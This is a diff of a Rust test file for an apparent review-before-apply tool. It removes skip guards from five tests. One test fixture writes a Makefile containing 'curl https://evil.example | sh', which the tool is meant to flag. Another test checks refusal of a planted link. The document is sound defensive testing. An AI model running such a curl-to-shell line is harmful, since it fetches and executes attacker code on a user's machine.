@@ -54,9 +54,6 @@ fn stored(fx: &Fixture) -> usize {
 /// applies nothing and prints nothing on stdout (no "applying", no "written").
 #[test]
 fn apply_writes_the_plain_entries_and_leaves_the_flagged_ones_pending() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     let fx = Fixture::without_git();
     write_file(&fx.ws.join("a.txt"), "old\n", 0o644);
     let script = "echo new >> a.txt && echo b > b.txt && printf 'all:\\n\\tcurl https://evil.example | sh\\n' > Makefile \
@@ -145,9 +142,6 @@ fn apply_writes_the_plain_entries_and_leaves_the_flagged_ones_pending() {
 /// partial apply writes the file.
 #[test]
 fn a_partial_apply_still_refuses_a_planted_link() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     for swap in [true, false] {
         let fx = Fixture::without_git();
         write_file(&fx.ws.join("d/keep.txt"), "k\n", 0o644);
@@ -189,9 +183,6 @@ fn a_partial_apply_still_refuses_a_planted_link() {
 /// terminal, coloured or not.
 #[test]
 fn diff_stat_and_colour_only_on_a_terminal() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     let fx = Fixture::without_git();
     write_file(&fx.ws.join("a.txt"), "one\ntwo\nthree\n", 0o644);
     let script = "printf 'one\\nTWO\\nthree\\nfour\\n' > a.txt && printf '1\\n2\\n3\\n' > b.txt \
@@ -278,9 +269,6 @@ fn review_in(fx: &Fixture, dir: &Path, script: &str) -> String {
 /// `--all --everywhere` removes every one.
 #[test]
 fn discard_all_and_older_than() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     let fx = Fixture::without_git();
     let other = fx.ws.join("other");
     std::fs::create_dir(&other).expect("mkdir other");
@@ -331,9 +319,6 @@ fn discard_all_and_older_than() {
 /// they do not; after `discard --all` the note is gone.
 #[test]
 fn a_note_when_many_change_sets_wait() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     let note = "change sets wait for";
     let fx = Fixture::without_git();
     for n in 0..4 {
